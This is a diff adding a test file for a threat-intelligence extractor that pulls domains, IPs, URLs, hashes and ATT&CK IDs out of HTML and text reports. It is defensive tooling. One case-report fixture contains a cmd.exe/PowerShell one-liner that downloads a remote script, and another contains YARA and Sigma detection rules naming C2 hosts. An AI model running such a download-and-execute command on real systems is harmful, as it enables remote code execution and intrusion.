@@ -1,0 +1,291 @@
+import { type Extraction, extractFromHtml, extractFromText } from '../../src/ingest/index.ts'
+
+const shown = ({ findings }: Extraction) => findings.map(({ type, value }) => `${type} ${value}`)
+const text = (article: string) => shown(extractFromText(article))
+const html = (article: string) => shown(extractFromHtml(article))
+
+const MD5 = '9375cff0413111d3b88a00104b2a6677'
+const SHA1 = '098b9a6ce722311553e1d8ac5849ba1dc5834c52'
+const SHA256 = '0a0bd696ec0d98b6dc7cb655ae58370d4d13f08b91a92eef52a0ed1efbb8577e'
+const SHA512 = `${SHA256}${SHA256}`
+
+describe('a page', () => {
+  it('is read without its navigation, scripts and footer, even when one of them is never closed', () => {
+    const page = `<nav><a href="/">nav-site[.]com</a><header>top-site[.]com</header>
+      <article><header>In short: first-site[.]com</header><script>var a = "script-site[.]com"</script>
+      <p>second-site[.]com</p></article><footer>foot-site[.]com</footer>`
+    expect(html(page)).toEqual(['domain first-site.com', 'domain second-site.com'])
+  })
+
+  it('may split values by <wbr>, spans, comments, entities and soft hyphens', () => {
+    const page =
+      '<p>one<wbr>-site<wbr>[.]<wbr>com</p><p><span>two-site</span><b>[.]</b><span>com</span></p>' +
+      '<p>three<!-- x -->-site&#91;&period;&#x5d;com</p><p>four&shy;-site[.]com</p>'
+    expect(html(page)).toEqual([
+      'domain one-site.com',
+      'domain two-site.com',
+      'domain three-site.com',
+      'domain four-site.com',
+    ])
+  })
+
+  it('keeps cells, rows, lines and items apart', () => {
+    const page = `<table><tr><td>${MD5}</td><td>one-site[.]com<br>two-site[.]com</td></tr><tr><td>a</td><td>8.8.7.7</td></tr>
+      </table><ul><li>three-site[.]com</li><li>four-site[.]com</li></ul><div>five-site[.]com</div><div>six-site[.]com</div>`
+    expect(html(page)).toEqual([
+      `md5 ${MD5}`,
+      'domain one-site.com',
+      'domain two-site.com',
+      'ipv4 8.8.7.7',
+      'domain three-site.com',
+      'domain four-site.com',
+      'domain five-site.com',
+      'domain six-site.com',
+    ])
+  })
+
+  it('may have tags that are never closed', () => {
+    const page = `<table><tr><td>${MD5}<td>one-site[.]com<tr><td>${SHA1}<td>two-site[.]com`
+    expect(html(page)).toEqual([`md5 ${MD5}`, 'domain one-site.com', `sha1 ${SHA1}`, 'domain two-site.com'])
+  })
+
+  it('says by the headers of its columns what its cells are', () => {
+    const page = `<table><thead><tr><th>File name</th><th>SHA-1</th><th>Domain</th><th>Provider</th></tr></thead>
+      <tr><td>setup.sh</td><td>${SHA1}</td><td>plain-site.sh</td><td>Hosting.com</td></tr></table>`
+    expect(html(page)).toEqual([`sha1 ${SHA1}`, 'domain plain-site.sh'])
+  })
+
+  it('says by its headings what stands below, until the next of the same level', () => {
+    const page = `<h2>Indicators of Compromise</h2><h3>Domains</h3><ul><li>plain-one.zip</li></ul>
+      <h3>Files</h3><ul><li>setup.zip</li></ul><h2>Conclusion</h2><p>Pack it into other.zip</p>`
+    expect(html(page)).toEqual(['domain plain-one.zip'])
+  })
+
+  it('says by the type of a row what its other cells are', () => {
+    const rows = `<tr><td>Filename</td><td>setup.zip</td></tr><tr><td>JA3</td><td>${MD5}</td></tr>
+      <tr><td>Domain</td><td>plain-one.zip</td></tr><tr><td>SHA-1</td><td>${SHA1}</td></tr>`
+    const found = ['domain plain-one.zip', `sha1 ${SHA1}`]
+    expect(html(`<table><tr><th>Type</th><th>Indicator</th></tr>${rows}</table>`)).toEqual(found)
+    expect(html(`<h2>IOCs</h2><table>${rows}</table>`)).toEqual(found)
+  })
+
+  it('takes bold lines and captions for headings', () => {
+    const page = `<p><strong>C2 domains</strong></p><p>plain-one.zip</p>
+      <table><caption>Samples</caption><tr><td>setup.zip</td></tr></table>`
+    expect(html(page)).toEqual(['domain plain-one.zip'])
+  })
+
+  it('shows by a link that can be followed that a host is harmless; a link to a look-up says nothing', () => {
+    const page = `<p>The malware uses the server <a href="https://nice-site.com/">nice-site.com</a> and
+      <a href="https://lookup.vendor.com/?q=bad-site.com">bad-site.com</a> as domains.</p>`
+    expect(html(page)).toEqual(['domain bad-site.com'])
+  })
+
+  it('keeps the lines of code, and reads the strings in it', () => {
+    const page = `<pre><code class="x">import os.path
+url = "http://one-site.net/p.php"
+host = 'two-site.ru'
+self.id = obj.name
+</code></pre>`
+    expect(html(page)).toEqual(['url http://one-site.net/p.php', 'domain two-site.ru'])
+  })
+})
+
+describe('a text', () => {
+  it('of an advisory with tables and techniques', () => {
+    const article = `The actors use PsExec [T1569.002] and contact foo-leak[.]org. Contact report@cisa.gov.
+
+Table 2: IP Addresses
+
+| IP Address | First Seen | Provider |
+|---|---|---|
+| 23.106.223[.]97 | 2023-01-02 | LeaseWeb.com, Inc. |
+| 45.134.26.174 | 2023-01-02 | Partner Hosting |
+| 10.0.0.5 | internal | - |
+
+## MITRE ATT&CK Techniques
+Technique Title | ID | Use
+--- | --- | ---
+Valid Accounts | T1078 | used
+Exfiltration | TA0010 | T1041
+
+## Resources
+- https://www.cisa.gov/resources
+- https://some-unknown-blog.net/report
+`
+    expect(text(article)).toEqual([
+      'mitre_attack T1569.002',
+      'domain foo-leak.org',
+      'ipv4 23.106.223.97',
+      'ipv4 45.134.26.174',
+      'mitre_attack T1078',
+      'mitre_attack TA0010',
+      'mitre_attack T1041',
+    ])
+  })
+
+  it('with a table whose rows say of what type they are', () => {
+    const article = `| Indicator | Type | Description |
+|---|---|---|
+| setup.zip | File name | Decoy |
+| run.sh | Filename | fetched from one-site.com |
+| ${MD5} | imphash | loader |
+| ${SHA256} | JARM | |
+| ${SHA1} | TLS cert SHA-1 | |
+| plain-one.zip | Domain | C2 |
+| ${SHA512} | SHA-512 | loader |
+`
+    expect(text(article)).toEqual(['domain one-site.com', 'domain plain-one.zip', `sha512 ${SHA512}`])
+  })
+
+  it('with a table of versions', () => {
+    expect(text('| Product | Affected | Fixed |\n|---|---|---|\n| Foo | 9.1.2.3 | 9.1.2.4 |\n')).toEqual([])
+    expect(text('| Software | Until |\n|---|---|\n| Foo | 9.1.2.3 |\n')).toEqual([])
+    expect(text('| Product | C2 |\n|---|---|\n| Foo | 9.1.2.3 |\n')).toEqual(['ipv4 9.1.2.3'])
+    expect(text('| Affected IP |\n|---|\n| 91.2.3.4 |\n')).toEqual(['ipv4 91.2.3.4'])
+  })
+
+  it('with hosts below the hashes', () => {
+    const list = `${MD5}\none-site.com\ntwo-site.com:8443\nsetup.zip\n`
+    expect(text(`## IOCs\n\nHashes:\n${list}`)).toEqual([
+      `md5 ${MD5}`,
+      'domain one-site.com',
+      'domain two-site.com',
+    ])
+    expect(
+      html(`<h2>IOCs</h2><p><b>Files:</b><br>${MD5}</p><ul><li>one-site.com:8443</li><li>run.sh</li></ul>
+        <pre>two-site.com\nthree-site.com</pre>`),
+    ).toEqual([`md5 ${MD5}`, 'domain one-site.com', 'domain two-site.com', 'domain three-site.com'])
+  })
+
+  it('with names of hosts that could be files among those that could not', () => {
+    expect(text('one-site.com\ntwo-site.in\nget.three.sh\nrun.sh\nhttp://four-site.com/\n')).toEqual([
+      'domain one-site.com',
+      'domain two-site.in',
+      'domain get.three.sh',
+      'url http://four-site.com/',
+    ])
+    expect(text('one-site.com\nget.three.sh\nsetup.exe\n')).toEqual(['domain one-site.com'])
+    expect(text('Domains:\n- app.one-site.app\n')).toEqual(['domain app.one-site.app'])
+  })
+
+  it('whose table was torn into lines', () => {
+    expect(text('IP address\nDomain\n91.2.3.4\none-site.com\n91.2.3.5\ntwo-site.net\n')).toEqual([
+      'ipv4 91.2.3.4',
+      'domain one-site.com',
+      'ipv4 91.2.3.5',
+      'domain two-site.net',
+    ])
+  })
+
+  it('of a case report: lists below words that say what they are, command lines, certificates', () => {
+    const article = `It beaconed to first-site.co and 172.93.181.165:443. They ran \`ping -n 1 dc01.corp.local\`.
+
+Cobalt Strike C2:
+second-site.com
+23.82.140.91
+149.248.52.187:443
+JA3: ${MD5}
+Serial: ${MD5}
+Thumbprint: ${SHA1}
+
+cmd.exe /c C:\\Users\\x.com\\run.sh && powershell -c "(New-Object Net.WebClient).DownloadString('http://185.10.68.123/a.ps1')"
+`
+    expect(text(article)).toEqual([
+      'domain first-site.co',
+      'ipv4 172.93.181.165',
+      'domain second-site.com',
+      'ipv4 23.82.140.91',
+      'ipv4 149.248.52.187',
+      `sha1 ${SHA1}`,
+      'url http://185.10.68.123/a.ps1',
+    ])
+  })
+
+  it('with rules of YARA and Sigma', () => {
+    const article = `\`\`\`yara
+rule foo {
+  meta:
+    reference = "https://unknown-blog.net/report"
+    hash1 = "${SHA256}"
+  strings:
+    $a = "cmd.exe /c start"
+    $u = "http://one-site.net/p.php"
+    $d = "two-site.ru"
+  condition: filesize < 1MB and uint16(0) == 0x5a4d
+}
+\`\`\`
+
+\`\`\`yaml
+references:
+    - https://unknown-blog.net/post
+tags:
+    - attack.command-and-control
+    - attack.t1071.001
+detection:
+    selection:
+        QueryName|endswith:
+            - 'three-site.com'
+\`\`\`
+`
+    expect(text(article)).toEqual([
+      `sha256 ${SHA256}`,
+      'url http://one-site.net/p.php',
+      'domain two-site.ru',
+      'mitre_attack T1071.001',
+      'domain three-site.com',
+    ])
+  })
+
+  it('with JSON', () => {
+    const article =
+      '{"url":"http:\\/\\/one-site.com\\/a.php","ip":"8.209.77.1","host":"two-site.com","version":"4.3.2.1","pkg":"lodash.merge"}'
+    expect(text(article)).toEqual(['url http://one-site.com/a.php', 'ipv4 8.209.77.1', 'domain two-site.com'])
+  })
+
+  it('with names of files beside hashes', () => {
+    expect(text(`${MD5}  setup.sh\n${SHA256} *doc.zip\n${SHA1},a.py\n`)).toEqual([
+      `md5 ${MD5}`,
+      `sha256 ${SHA256}`,
+      `sha1 ${SHA1}`,
+    ])
+  })
+
+  it('in Markdown, AsciiDoc, and with tabs', () => {
+    expect(
+      text(`**Domains**\n\n* \`one-site.zip\`\n* [two-site[.]com](https://lookup.example/two)\n`),
+    ).toEqual(['domain one-site.zip', 'domain two-site.com'])
+    expect(text(`== C&C servers\n\n----\nthree-site.zip\n----\n`)).toEqual(['domain three-site.zip'])
+    expect(text(`Domain\tFile\nfour-site.zip\tsetup.zip\n`)).toEqual(['domain four-site.zip'])
+  })
+
+  it.each([
+    ['Indicadores de compromiso', 'Dominios:', 'Archivos:'],
+    ['Indicadores de comprometimento', 'Domínios', 'Ficheiros'],
+    ['Indicateurs de compromission', 'Domaines', 'Fichiers'],
+    ['Kompromittierungsindikatoren', 'Domänen', 'Dateien'],
+    ['Индикаторы компрометации', 'Домены:', 'Файлы:'],
+    ['侵害指標', 'ドメイン', 'ファイル：'],
+    ['침해 지표', '도메인', '파일'],
+    ['失陷指标', '域名：', '文件：'],
+  ])('below the words %s, %s and %s', (indicators, domains, files) => {
+    const found = ['domain one-site.zip']
+    expect(text(`${indicators}\n\n${domains}\none-site.zip\n\n${files}\nsetup.zip\n`)).toEqual(found)
+    expect(
+      text(`# ${indicators}\n\n| ${domains} | ${files} |\n|---|---|\n| one-site.zip | setup.zip |\n`),
+    ).toEqual(found)
+  })
+
+  it('in Chinese, glued to its values', () => {
+    expect(
+      text('\u8bbf\u95eeevil-site.com\u4e0b\u8f7d\u3002\nIP\uff1a91.2.3.4\uff0chttp://bad-site.net/a\u3002'),
+    ).toEqual(['domain evil-site.com', 'ipv4 91.2.3.4', 'url http://bad-site.net/a'])
+  })
+
+  it('of news, where hosts are names of companies', () => {
+    const article = `Tesla.com and Ticketshop.com customers were hit, reported BleepingComputer.com.
+Visit https://www.ticketshop.com/help for details. The attackers registered t1cketshop-help.com, a phishing page.
+For press, write press@ticketshop.com. Version 4.5.6.7 and earlier are vulnerable; upgrade to 4.5.6.8.`
+    expect(text(article)).toEqual(['domain t1cketshop-help.com'])
+  })
+})
